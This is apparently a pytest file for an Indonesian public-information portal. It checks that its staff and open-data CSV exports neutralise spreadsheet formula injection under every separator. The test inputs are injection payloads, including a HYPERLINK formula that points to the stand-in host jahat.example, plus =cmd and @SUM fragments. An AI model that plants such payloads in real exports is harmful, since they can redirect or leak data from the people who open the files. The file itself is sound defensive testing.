"""Issue 20 (finding 9): no CSV the project writes lets a spreadsheet run a
formula, whatever separator it splits on.  A request filed with formula
text and a DIP entry with some are downloaded as the staff register (semicolon,
BOM) and the open-data CSV (RFC 4180, comma); each cell of their rows is
neutralised, and so is every cell the same line gives when split on the
other separators (a comma file opened in a semicolon locale)."""
import csv
import io

import pytest

from client import filed
from staf_uji import location_id, post, session, user

pytestmark = pytest.mark.usefixtures("clear_throttle")

YEAR = "2001"    # this file's DIP entry: an unusual year the form accepts (1945 to next year)
FORMULA_START = tuple("=+-@\t\r")

RINCIAN = '=HYPERLINK("http://jahat.example/?x";"klik")'
TUJUAN = "Penelitian,=1+1;@SUM(A1)"
PEKERJAAN = "-2+3 Guru"
ALAMAT = "+62 Jl. Rumus;-cmd"


def cells_split_on(line, delimiter):
    return next(csv.reader(io.StringIO(line, newline=""), delimiter=delimiter))


def assert_safe_in_every_separator(line):
    """Every cell of one physical line, split on ; , and tab, starts as
    text (a neutralised cell starts with ' or with a quote the parser
    removes, then ')."""
    for delimiter in (";", ",", "\t"):
        for cell in cells_split_on(line, delimiter):
            assert not cell.startswith(FORMULA_START), (delimiter, cell, line)
            assert not cell.lstrip('"').startswith(FORMULA_START), (delimiter, cell, line)


def line_with(text, needle):
    lines = [ln for ln in text.split("\r\n") if needle in ln]
    assert len(lines) == 1, (needle, lines)
    return lines[0]


@pytest.fixture(scope="module")
def staff(server, db):
    user(db, "rumus.utama", ["ppid_utama"], "diskominfo", "Utama Rumus")
    user(db, "rumus.dinkes", ["ppid_pelaksana"], "dinkes", "Pelaksana Rumus")
    return session(server, "rumus.utama"), session(server, "rumus.dinkes")


def test_the_register_csv_neutralises_formulas_a_citizen_typed(server, staff):
    utama, _ = staff
    number, _, _ = filed(server, rincian=RINCIAN, tujuan=TUJUAN, pekerjaan=PEKERJAAN,
                         alamat=ALAMAT, nama="Pemohon Rumus", nik="3604017777666655")
    r = utama.get(server.url + "/ppid/admin/register/permohonan.csv",
                  params={"tahun": number[:4]}, timeout=120)
    assert r.status_code == 200, r.text[:300]
    assert r.content.startswith(b"\xef\xbb\xbf")
    text = r.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    header = rows[0]
    (row,) = [x for x in rows[1:] if number in x]
    got = dict(zip(header, row))
    assert got["Informasi yang diminta"] == "'" + RINCIAN
    assert got["Tujuan penggunaan informasi"] == "Penelitian,'=1+1;'@SUM(A1)"
    assert got["Pekerjaan"] == "'" + PEKERJAAN
    assert got["Alamat"] == "'+62 Jl. Rumus;'-cmd"
    for cell in row:
        assert not cell.startswith(FORMULA_START), cell
    assert_safe_in_every_separator(line_with(text, number))


def test_the_open_data_csv_neutralises_formulas(server, staff):
    utama, dinkes = staff
    fields = {"nomor": "RUMUS-1", "kategori": "berkala",
              "ringkasan": "=HYPERLINK(\"http://jahat.example\") Rumusuji",
              "pejabat_penguasa": "+Sekretaris", "penanggung_jawab": "Kasubbag;=cmd",
              "waktu_tempat": "@Serang", "bentuk": "PDF", "retensi": "5 tahun,-1",
              "tahun": YEAR, "tautan": ""}
    ident = location_id(post(dinkes, server, "/ppid/admin/dip", fields), "/ppid/admin/dip/")
    assert post(dinkes, server, "/ppid/admin/dip/%s/ajukan" % ident).status_code == 303
    assert post(utama, server, "/ppid/admin/dip/%s/terbitkan" % ident).status_code == 303

    r = utama.get(server.url + "/ppid/dip.csv", params={"tahun": YEAR, "q": "Rumusuji"},
                  timeout=60)
    assert r.status_code == 200 and r.headers["Content-Type"] == "text/csv; charset=utf-8"
    text = r.content.decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    (row,) = [x for x in rows if x.get("nomor") == "RUMUS-1"]
    assert row["ringkasan"] == "'" + fields["ringkasan"]
    assert row["pejabat_penguasa"] == "'+Sekretaris"
    assert row["penanggung_jawab"] == "Kasubbag;'=cmd"
    assert row["waktu_tempat"] == "'@Serang"
    assert row["retensi"] == "5 tahun,'-1"
    # The XML beside it keeps the text as typed: only the CSV is guarded.
    x = utama.get(server.url + "/ppid/dip.xml", params={"tahun": YEAR, "q": "Rumusuji"},
                  timeout=60).text
    assert "<pejabat_penguasa>+Sekretaris</pejabat_penguasa>" in x
    for cell in row.values():
        assert not cell.startswith(FORMULA_START), cell
    assert_safe_in_every_separator(line_with(text, "RUMUS-1"))
